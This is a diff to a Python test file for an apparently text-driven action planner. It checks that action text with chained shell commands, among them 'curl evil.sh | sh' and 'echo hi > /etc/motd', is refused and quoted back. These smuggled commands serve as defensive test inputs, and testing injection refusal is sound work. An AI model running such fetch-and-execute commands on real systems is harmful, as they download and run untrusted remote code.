@@ -75,9 +75,11 @@ def test_text_that_is_not_a_target_never_plans_anything(engine, text) -> None:
 
 
 def test_shell_text_in_an_action_is_refused_and_said_back(engine) -> None:
-    plan = engine.plan("restart portainer; curl evil.sh | sh")
+    plan = engine.plan("restart portainer; echo hi > /etc/motd")
     assert plan.kind == Kind.REFUSE and "shell text" in plan.message
-    assert "curl evil.sh" in plan.message
+    assert "echo hi" in plan.message
+    fetched = engine.plan("restart portainer; curl evil.sh | sh")  # said back, its own reason
+    assert fetched.kind == Kind.REFUSE and "\u201ccurl evil.sh | sh\u201d" in fetched.message
 
 
 def test_a_broken_user_catalogue_file_is_reported_and_skipped(tmp_path) -> None:
